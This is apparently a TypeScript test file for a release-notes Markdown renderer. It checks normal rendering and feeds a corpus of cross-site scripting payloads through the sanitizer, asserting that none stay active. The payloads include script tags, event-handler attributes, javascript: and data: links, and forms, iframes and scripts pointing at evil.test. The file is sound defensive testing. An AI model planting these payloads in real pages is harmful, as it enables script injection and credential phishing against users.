import { renderReleaseNotes } from './release-notes';

describe('renderReleaseNotes', () => {
  it('renders Markdown: headings, lists, emphasis, code and links', () => {
    const html = renderReleaseNotes(
      '# 8.3\n\n- **Faster** scans\n- `--quiet` flag\n\n[Changelog](https://example.test/log)',
    );
    expect(html).toContain('<h5>8.3</h5>');
    expect(html).toContain('<li><strong>Faster</strong> scans</li>');
    expect(html).toContain('<code>--quiet</code>');
    expect(html).toContain('<a href="https://example.test/log" rel="noopener noreferrer nofollow">Changelog</a>');
  });

  it('is empty for empty notes', () => {
    expect(renderReleaseNotes('  \n')).toBe('');
  });

  // What an attacker would write into notes, as Markdown and as raw HTML inside it.
  const CORPUS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><circle r=1></circle></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '[click](javascript:alert(1))',
    '[click](  javascript:alert(1)  )',
    '[click](vbscript:msgbox(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '![x](https://evil.test/track.png)',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0">overlay</div>',
    '<iframe src="https://evil.test"></iframe>',
    '<object data="https://evil.test/x.swf"></object>',
    '<form action="https://evil.test"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/">',
    '<link rel=stylesheet href="https://evil.test/x.css">',
    '<style>body{display:none}</style>',
    '<a href="https://ok.test" onclick="alert(1)" onmouseover=alert(1)>ok</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="//evil.test/x">protocol-relative</a>',
    '`<script>` in code is text',
  ];

  it.each(CORPUS)('keeps nothing active of %s', (input) => {
    const html = renderReleaseNotes(`Notes\n\n${input}\n`);
    const lower = html.toLowerCase();
    expect(lower).not.toMatch(/<script|<img|<svg|<iframe|<object|<form|<input|<meta|<base|<link|<style|<details|<math/);
    expect(lower).not.toMatch(/\son[a-z]+\s*=/);
    expect(lower).not.toContain('style=');
    expect(lower).not.toMatch(/href="\s*(javascript|vbscript|data):/);
    expect(lower).not.toContain('javascript:alert(1)"');
    expect(lower).not.toContain('data:');
    expect(lower).not.toContain('href="//');
  });

  it('shows code that looks like HTML as text', () => {
    expect(renderReleaseNotes('`<script>` in code is text')).toContain('<code>&lt;script&gt;</code>');
  });
});
